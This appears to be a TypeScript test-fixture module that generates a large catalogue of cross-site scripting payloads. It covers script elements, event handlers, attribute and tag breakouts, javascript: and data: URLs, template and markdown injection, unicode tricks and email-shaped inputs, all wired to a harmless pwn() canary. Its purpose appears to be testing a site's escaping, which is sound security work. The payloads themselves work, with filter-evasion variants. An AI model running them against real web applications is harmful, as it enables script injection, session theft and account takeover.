/**
 * Texts that try to run a script where they are shown, based on the grammar of HTML and its parsers. `pwn(…)` is the
 * canary: an attack worked if it is called, a dialog opens, or the page sends a request to {@link canaryHost}.
 */
import { markupTricks } from "./xss-markup.ts";

export const canaryHost = "canary.invalid";

export interface XssPayload {
  /** The context in which the payload works: `element`, `attribute`, `url`, … */
  readonly context: string;
  readonly text: string;
}

/** The code of a payload, in different spellings, because filters look for names. */
const calls = (n: number): string[] => [
  `pwn(${n})`,
  `top.pwn(${n})`,
  `window['p'+'wn'](${n})`,
  `pwn\`${n}\``,
  `[${n}].map(pwn)`,
  `alert(${n})`,
];

const handlers = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "video autoplay onerror src=x",
  "video><source onerror",
  "audio src=x onerror",
  "details open ontoggle",
  "input autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "button autofocus onfocus",
  "a tabindex=0 autofocus onfocus href=#",
  "div contenteditable autofocus onfocus",
  "iframe onload",
  "object data=x onerror",
  "embed src=x onerror",
  "link rel=stylesheet href=x onerror",
  "style onload",
  "script src=x onerror",
  "marquee onstart",
  "svg><animate attributeName=x dur=1s onbegin",
  "svg><set attributeName=x onbegin",
  "svg><image href=x onerror",
  "svg><script",
  "p style='animation:x 1s' onanimationstart",
  "xss id=x tabindex=1 onfocus",
  "dialog open onpointerenter",
  "form><button formaction",
  "img srcset=x onerror",
  "picture><source srcset=x><img onerror",
];

const elements = (run: string): string[] => [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script>/*<!--*/${run}/*-->*/</script>`,
  `<<script>${run}//<</script>`,
  `<script src=data:,${run}></script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="data:text/html;charset=utf-8,<script>${run}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
];

const events = (run: string, n: number): string[] => {
  const gaps = [" ", "/", "\t", "\n", "\f", "\r"];
  return handlers.flatMap((handler, at) => {
    const gap = gaps[(at + n) % gaps.length] ?? " ";
    return [
      `<${handler}=${run}>`,
      `<${handler.replaceAll(" ", gap)}="${run.replaceAll('"', "&quot;")}">`,
      `<${handler.toUpperCase()}='${run.replaceAll("'", "&#39;")}' x=`,
    ];
  });
};

const breakouts = (run: string): string[] =>
  [
    ...[`"`, `'`, "`", ""].flatMap((quote) => [
      `${quote}><img src=x onerror=${run}>`,
      `${quote} autofocus onfocus=${run} x=${quote}`,
      `${quote} onmouseover=${quote}${run}${quote}`,
      `${quote};${run};//`,
    ]),
    ...["title", "textarea", "script", "style", "noscript", "option", "select", "xmp", "iframe"].map(
      (name) => `</${name}><img src=x onerror=${run}>`,
    ),
    `--><img src=x onerror=${run}>`,
    `--!><img src=x onerror=${run}>`,
    `]]><img src=x onerror=${run}>`,
    `?><img src=x onerror=${run}>`,
    `\\"-${run}//`,
    `\\u0022;${run}//`,
    `&quot;><img src=x onerror=${run}>`,
    `&lt;img src=x onerror=${run}&gt;`,
    `&amp;lt;img src=x onerror=${run}&amp;gt;`,
    `%3Cimg src=x onerror=${run}%3E`,
  ].map((text) => text.trim());

const addresses = (run: string): string[] => [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61&#x76&#x61script&colon;${run}`,
  `\u0001javascript:${run}`,
  `javascript://x%0a${run}`,
  `javascript:/*https://example.org/*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `blob:javascript:${run}`,
  `view-source:javascript:${run}`,
  `https://example.org/"onmouseover="${run}`,
  `https://example.org/'onfocus='${run}'autofocus='`,
  `//${canaryHost}/${run}`,
  `feed:javascript:${run}`,
];

const links = (run: string): string[] =>
  addresses(run).flatMap((address, at) => {
    const quoted = address.replaceAll('"', "&quot;");
    const all = [
      `<a href="${quoted}">go</a>`,
      `<a href="${quoted}" target="_blank" rel="opener">go</a>`,
      `<form action="${quoted}"><button>go</button></form>`,
      `<svg><a xlink:href="${quoted}"><text y=20>go</text></a></svg>`,
      `<math href="${quoted}">go</math>`,
      `<img src="${quoted}">`,
      `<base href="${quoted}">`,
      `<button formaction="${quoted}" form=x>go</button>`,
      `<area href="${quoted}">`,
    ];
    return [all[0] ?? "", all[1 + (at % (all.length - 1))] ?? ""];
  });

const templates = (run: string): string[] => [
  `{{constructor.constructor('${run.replaceAll("'", "\\'")}')()}}`,
  `{{$on.constructor('${run.replaceAll("'", "\\'")}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[[${run}]]`,
  `{{{${run}}}}`,
  `<div v-html="'<img src=x onerror=${run}>'">`,
  `<div ng-app ng-csp><p ng-click=${run}>x</p></div>`,
  `$t(<img src=x onerror=${run}>)`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `![x" onerror="${run}](https://example.org/x.png)`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}`,
];

const unicode = (run: string): string[] => [
  `＜img src=x onerror=${run}＞`,
  `<ſcript>${run}</ſcript>`,
  `<ımg src=x onerror=${run}>`,
  `\u202e<img src=x onerror=${run}>\u202c.`,
  `\u200b<\u200bimg src=x onerror=${run}>\u200b.`,
  `x\u2028<img src=x onerror=${run}>\u2029.`,
  `<img src=x on\u0130error=${run}>`,
  `<img\u00a0src=x onerror=${run}>`,
  `<img src=x onerror\u2003=${run}>`,
  `‹img src=x onerror=${run}›`,
  `<\u0069\u006d\u0067 src=x onerror=${run}>`,
  `x\ufeff<script>${run}</script>.`,
  `𝐩𝐰𝐧<svg onload=${run}>`,
];

/** Returns payloads without control characters and spaces at the ends, which a text field would trim. */
export function xssPayloads(): XssPayload[] {
  const kinds: [string, (run: string, n: number) => string[]][] = [
    ["element", elements],
    ["event handler", events],
    ["attribute", breakouts],
    ["url", addresses],
    ["rich text link", links],
    ["template and markdown", templates],
    ["unicode", unicode],
    ...markupTricks,
  ];
  let n = 0;
  return kinds.flatMap(([context, make]) =>
    make("pwn(0)", 0).map((_, at) => {
      n += 1;
      const spellings = calls(n);
      // Most payloads use the plain call, whose argument names the payload.
      const run = spellings[n % 4 === 0 ? at % spellings.length : 0] ?? "";
      return { context, text: make(run, n)[at] ?? "" };
    }),
  );
}

/** Payloads for short fields and fields with a fixed form. */
export const shortPayloads: readonly string[] = [
  "<svg onload=pwn(1)>",
  "'-pwn(2)-'",
  '"><svg/onload=pwn()',
  "{{pwn(3)}}",
  "<b onclick=pwn()>",
  "javascript:pwn(4)",
];

/** Returns a payload that is a valid email address, which limits it to quotes and signs. */
export const emailPayload = (n: number): string =>
  [`o'-pwn-'${n}@xss.example`, `'${n}+pwn+'_@xss.example`, `a'--${n}@svg-onload.example`][n % 3] ?? "";
